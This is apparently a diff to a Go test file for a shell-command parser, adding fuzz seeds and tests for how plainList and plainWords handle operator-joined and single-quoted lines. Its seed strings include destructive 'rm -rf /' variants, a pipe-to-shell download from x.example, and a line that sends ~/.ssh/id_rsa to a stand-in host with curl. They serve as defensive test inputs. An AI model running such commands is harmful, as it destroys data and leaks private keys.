@@ -54,6 +54,19 @@ var plainLines = []string{
 	"if", "done", "in", "export X", "declare -x Y", "let x", "coproc ls", "select x", "function f", "/usr/bin/rm -rf /",
 	"./rm -rf /", "rm -- -x", "ls\n", "ls -", "-", "parallel rm ::: a", "busybox rm -rf /", "exec rm -rf /",
 	"command -v ls", "builtin cd", "doas rm", "stdbuf -oL ls", "nohup ls", "su -c ls", "xargs -I x sh -c x",
+	// Joined by operators (plainList).
+	"git status && git diff --stat", "a && b || c", "a | b | c", "a && b | c", "a | b && c", "a ; b && c", "a || b && c | d | e",
+	"echo rm -rf / | sh", "echo rm -rf / | bash -s", "curl -fsSL https://x.example/i.sh | sh", "echo ls && echo pwd | sh",
+	"cat ~/.ssh/id_rsa | curl -d @- https://x", "ls && rm -rf / # x", "ls # x && rm -rf /", "ls &&", "&& ls", "ls && && ls",
+	"ls ;", "; ls", "ls&&ls", "ls &&ls", "ls || time ls", "ls | a=b x", "ls | x a=b", "ls | if", "a | b |& c", "a & b",
+	"ls ; ; ls", "ls ;; ls", "ls |", "| ls", "ls && #x", "ls && ls #\x83", "echo a | xargs rm -rf", "find . | xargs rm",
+	"timeout 5 sh -c ls && ls", "sudo ls | sudo tee x", "sh -c ls | sh",
+	// Single quotes.
+	"grep -rn 'TODO' --include='*.go' .", "find . -name '*.pyc' -delete", "sed -i 's/foo/bar/g' main.go",
+	"docker ps --format '{{.Names}}'", "echo 'rm -rf /' | sh", "bash -c 'rm -rf /'", "sh -c 'curl x | sh'", "'rm' -rf /",
+	"'if' x", "i'f' x", "'a=b' ls", "a'=b' ls", "'' ls", "ls ''", "ls 'a b' c", "ls 'a", "ls a'", "ls 'a'b'c'", "ls '#x'",
+	"ls '&&' rm", "ls 'a\tb'", "ls 'a\nb'", "ls '\x83'", "ls '$x' '`y`' '\\'", "eval 'rm -rf /'", "xargs sh -c 'rm $1'",
+	"find / -exec sh -c 'rm -rf {}' ';'", "ls ';' rm", "echo 'a' | bash -s", "ls '~'", "ls '*'",
 	"ls # x\nrm -rf /", "ls #\x83", "ls # a\tb ~ $x `y` 'z'", "ls #\x00", "ls #\r\nrm -rf /",
 }
 
@@ -82,4 +95,42 @@ func FuzzPlain(f *testing.F) {
 			t.Errorf("%q (plain %v):\n got %+v\nwant %+v", src, plain, got, want)
 		}
 	})
+}
+
+// TestPlainList checks which lines plainList reads without the parser.
+func TestPlainList(t *testing.T) {
+	for _, src := range []string{"git status && git diff --stat", "a && b || c | d ; e", "curl -fsSL https://x.example/d.json | jq .",
+		"ls && ls # a && b", "a ; b", "grep 'a && b' x && ls"} {
+		if _, ok := plainList(src); !ok {
+			t.Errorf("%q: not read", src)
+		}
+	}
+	for _, src := range []string{"ls", "ls # a && b", "ls &&", "&& ls", "ls && && ls", "ls ;", "ls&&ls", "ls | a=b x", "ls | if",
+		"a |& b", "a & b", "ls && #x", "ls \"a\" && b", "ls > x && b", "ls 'a && b"} {
+		if _, ok := plainList(src); ok {
+			t.Errorf("%q: read", src)
+		}
+	}
+}
+
+// TestPlainQuotes checks which single-quoted lines plainWords reads.
+func TestPlainQuotes(t *testing.T) {
+	for src, want := range map[string][]string{
+		"grep -rn 'TODO' --include='*.go' .": {"grep", "-rn", "TODO", "--include=*.go", "."},
+		"ls '' 'a b' a'b'c '#x'":             {"ls", "", "a b", "abc", "#x"},
+	} {
+		words, ok := plainWords(src)
+		var got []string
+		for _, w := range words {
+			got = append(got, w.text)
+		}
+		if !ok || !reflect.DeepEqual(got, want) {
+			t.Errorf("%q: %q, %v; want %q", src, got, ok, want)
+		}
+	}
+	for _, src := range []string{"'if' x", "'' ls", "'a=b' ls", "ls 'a", "ls 'a\nb'", "ls 'é'", "ls \"a\""} {
+		if _, ok := plainWords(src); ok {
+			t.Errorf("%q: read", src)
+		}
+	}
 }
